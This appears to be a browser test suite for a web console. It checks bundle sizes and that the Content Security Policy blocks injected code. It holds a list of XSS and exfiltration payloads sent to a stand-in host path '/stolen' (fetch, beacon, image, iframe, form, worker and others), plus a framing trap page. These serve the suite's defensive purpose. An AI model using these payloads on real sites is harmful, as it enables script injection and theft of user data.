import { type Server, createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, expect, it, onTestFinished } from 'vitest';
import { axe } from '../support/axe.ts';
import { openConsole, signedIn } from '../support/browser.ts';
import { TestGateway, makeToken } from '../support/gateway.ts';
import { canceledTicket, rowOf } from '../support/live-page.ts';
import { thoroughly } from '../support/thorough.ts';

/** For the whole file. */
let gateway: TestGateway;
beforeAll(async () => {
  gateway = await TestGateway.start({ lasting: true });
});
afterAll(() => gateway.end());

it('CON7.1 opens in a browser, at any of its pages, without a word from another host', async () => {
  const page = await openConsole({ gateway });
  await signedIn(page);
  for (const path of ['', '/today', '/events', '/live', '/history']) {
    await page.goto(`${gateway.url}/console${path}`);
    await signedIn(page);
    await page.getByRole('heading', { level: 1 }).waitFor();
  }
  await axe(page);
});

it('CON7.1 reaches its own gateway’s WebSocket under its policy', async () => {
  const page = await openConsole({ gateway });
  const opened = await page.evaluate(`new Promise((resolve) => {
    const socket = new WebSocket(location.origin.replace('http', 'ws') + '/graphql', 'graphql-transport-ws');
    socket.onopen = () => { socket.close(); resolve('opened'); };
    socket.onerror = () => resolve('refused');
  })`);
  expect(opened).toBe('opened');
});

/** Spanish, the first, is the largest. */
const LANGUAGES = ['es-ES', 'pt-BR', 'en-GB'] as const;

it.each(thoroughly<readonly (typeof LANGUAGES)[number][]>(LANGUAGES, LANGUAGES.slice(0, 1)))(
  'CON8.1 begins with under 170 kB, gzipped, 150 of them script, has under 180 kB of script with all of its pages, and 8 kB more for details, in %s',
  async (locale) => {
    const page = await openConsole({ gateway, locale, token: null });
    const scripts = new Set<string>();
    const others = new Set<string>();
    page.on('response', (response) => {
      const url = response.url();
      if (url.endsWith('.js')) scripts.add(url);
      else if (/\.(css|woff2|svg|webmanifest)$/.test(url)) others.add(url);
    });
    await page.goto(`${gateway.url}/console/today#token=${await makeToken()}`);
    const weigh = async (files: ReadonlySet<string> = scripts) => {
      const sizes = [...files].map(async (url) => gzipSync(await (await fetch(url)).bytes()).length);
      return (await Promise.all(sizes)).reduce((all, size) => all + size);
    };
    await signedIn(page);
    await page.getByRole('heading', { level: 1 }).waitFor();
    expect(await weigh()).toBeLessThan(150_000);
    const isLoaded = () =>
      [...document.fonts].some(({ family, status }) => family.includes('Figtree') && status === 'loaded');
    await expect.poll(() => page.evaluate(isLoaded)).toBe(true);
    expect([...others].filter((url) => url.endsWith('.woff2'))).toHaveLength(1);
    expect(await weigh(new Set([...scripts, ...others]))).toBeLessThan(170_000);
    for (const name of ['today', 'events', 'overview', 'sources', 'quarantine']) {
      await page.goto(`${gateway.url}/console/${name}`);
      await signedIn(page);
      await page.getByRole('heading', { level: 1 }).waitFor();
    }
    // What all share, the language, and the charts.
    expect(scripts.size).toBeGreaterThan(2);
    const ofPages = await weigh();
    expect(ofPages).toBeLessThan(180_000);
    await gateway.eduzz(canceledTicket('opened'));
    await page.goto(`${gateway.url}/console/history`);
    await rowOf(page, 'opened').getByRole('button').click();
    await page.locator('.details').getByText('cavaquinho').waitFor();
    const whole = await weigh();
    expect(whole).toBeGreaterThan(ofPages);
    expect(whole).toBeLessThan(ofPages + 8_000);
  },
);

/** What a script that got into the page would try, and what the page would then have of it. */
const attacks: [attempt: string, script: string][] = [
  [
    'a script in the page',
    `document.body.append(Object.assign(document.createElement('script'), { text: 'hit = 1' }))`,
  ],
  ['markup with a handler', `document.body.innerHTML = '<img src="x" onerror="hit = 1">'`],
  ['text that is run', `setTimeout('hit = 1')`],
  ['text that is run at once', `setTimeout(() => eval('hit = 1'))`],
  ['a script of another host', `import(OTHER + '/script.js')`],
  ['a request', `fetch(OTHER + '/stolen', { mode: 'no-cors' })`],
  ['a beacon', `navigator.sendBeacon(OTHER + '/stolen')`],
  ['a WebSocket', `new WebSocket(OTHER.replace('http', 'ws'))`],
  ['an event stream', `new EventSource(OTHER + '/stolen')`],
  ['a picture', `new Image().src = OTHER + '/stolen'`],
  ['a picture in a style', `document.body.style.background = 'url(' + OTHER + '/stolen)'`],
  [
    'a style sheet',
    `document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: OTHER + '/stolen' }))`,
  ],
  ['a frame', `document.body.append(Object.assign(document.createElement('iframe'), { src: OTHER + '/stolen' }))`],
  [
    'a form',
    `{ const form = document.createElement('form'); form.action = OTHER; document.body.append(form); form.submit(); }`,
  ],
  [
    'another base',
    `{ const base = document.createElement('base'); base.href = OTHER; document.head.append(base); if (document.baseURI.startsWith(OTHER)) hit = 1; }`,
  ],
  ['a worker', `new Worker(URL.createObjectURL(new Blob(['fetch("' + OTHER + '")'])))`],
];

it('CON7.2 runs nothing that gets into the page, and lets nothing out to another host', async () => {
  const heard: string[] = [];
  const other = await listen(
    createServer(({ url = '' }, response) => {
      heard.push(url);
      response.end('hit = 1');
    }),
  );
  const page = await openConsole({ gateway, expected: /^/ });
  for (const [attempt, script] of attacks) {
    const tried = await page.evaluate(`(async () => {
      const OTHER = ${JSON.stringify(other)};
      const forbidden = new Promise((resolve) => addEventListener('securitypolicyviolation', resolve, { once: true }));
      try { await (async () => { ${script} })() } catch {}
      await forbidden;
      return typeof hit;
    })()`);
    expect([attempt, tried]).toEqual([attempt, 'undefined']);
  }
  expect(heard).toEqual([]);
});

it('CON7.2 is shown in no other page’s frame', async () => {
  const other = await listen(
    createServer((_request, response) => {
      response.setHeader('content-type', 'text/html');
      response.end(`<title>A trap</title><iframe src="${gateway.url}/console"></iframe>`);
    }),
  );
  const page = await openConsole({ gateway, expected: /frame-ancestors|a request to|404/ });
  await page.goto(other);
  const [, frame] = page.frames();
  await expect.poll(() => frame!.url()).toMatch(/^chrome-error:/);
});

async function listen(server: Server): Promise<string> {
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', () => resolve()));
  onTestFinished(() => void server.close());
  return `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
}
